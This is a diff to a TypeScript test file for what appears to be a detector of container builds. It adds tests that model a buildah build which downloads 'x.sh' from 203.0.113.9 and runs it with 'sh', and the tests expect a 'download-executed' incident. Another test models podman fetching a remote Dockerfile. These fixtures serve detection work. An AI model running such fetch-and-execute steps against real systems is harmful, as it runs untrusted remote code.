@@ -4,6 +4,7 @@ import { fold, type Told } from './fixtures/fold.js';
 import { begin, id64, image, Story, second } from './fixtures/host.js';
 import * as imported from './fixtures/imported.js';
 import { sorted } from './fixtures/stories.js';
+import { objectOf } from './json.js';
 
 const tell = (story: Story): Told => fold(story, { rows: sorted(story), until: 900 });
 
@@ -74,6 +75,40 @@ describe('builders that are seen by their processes alone', () => {
     expect(stepsOf(told, build)).toEqual([imported.payload]);
   });
 
+  it('what buildah fetched into a container by hand is a step, with its connection', () => {
+    const told = tell(imported.fetchedByHand());
+    const build = only(told.builds.values());
+    expect([...told.steps.values()]).toMatchObject([
+      { Instruction: 'ADD', Command: 'http://203.0.113.9:8000/x.sh /x' },
+      { Instruction: 'RUN', Command: 'sh /x', Connections: [] },
+    ]);
+    expect(build.RemoteAddresses).toMatchObject([{ RemoteIP: '203.0.113.9', FileName: 'buildah' }]);
+    const evidence = only(told.incidents.values()).Evidence as { Id: string; Weight: number }[];
+    expect(evidence).toContainEqual(
+      expect.objectContaining({ Id: 'download-executed', Weight: 3 }),
+    );
+  });
+
+  it('what a builder without a daemon connects to for itself is its build’s, and no daemon’s is', () => {
+    const story = new Story();
+    const podman = story.exec(1, story.bash, [
+      'podman',
+      'build',
+      '-f',
+      'http://203.0.113.9/C',
+      '.',
+    ]);
+    const other = story.exec(1, story.bash, ['podman', 'build', '.'], { cwd: '/srv/other' });
+    story.connect(1.2, podman, '203.0.113.9', 80);
+    story.connect(1.3, story.dockerd, '198.51.100.7', 443);
+    for (const client of [podman, other]) story.exit(2, client);
+    const [one, two] = [...tell(story).builds.values()].map(({ AdditionalFields }) =>
+      objectOf(AdditionalFields ?? null),
+    );
+    expect(one?.['DaemonConnections']).toMatchObject([{ RemoteIP: '203.0.113.9' }]);
+    expect(two?.['DaemonConnections']).toEqual([]);
+  });
+
   it('docker in docker is no way to the host', () => {
     const told = tell(imported.dockerInDocker());
     const build = only(told.builds.values());
@@ -87,6 +122,20 @@ describe('builders that are seen by their processes alone', () => {
     for (const line of ['npm run build -t x', 'go build -t x ./cmd', 'make build', './gen build .'])
       story.exec(1, story.bash, line.split(' '));
     expect(tell(story).builds.size).toBe(0);
+  });
+
+  it('what a program of another trade starts, which is told to build with a tag, is no step', () => {
+    const story = new Story();
+    // Somebody else connects: so connections are seen, and it made none.
+    story.socket(0, story.bash);
+    const pack = story.exec(1, story.bash, ['/usr/local/bin/pack', 'build', '-t', 'shop', '.']);
+    const hook = story.exec(2, pack, ['bash', 'hook.sh']);
+    imported.fetch(story, 2.2, hook);
+    story.exit(3, hook);
+    story.exit(4, pack);
+    const told = tell(story);
+    expect(told.builds.size).toBe(0);
+    expect(told.steps.size).toBe(0);
   });
 
   it('a later container is not a build’s, though its end was never seen', () => {
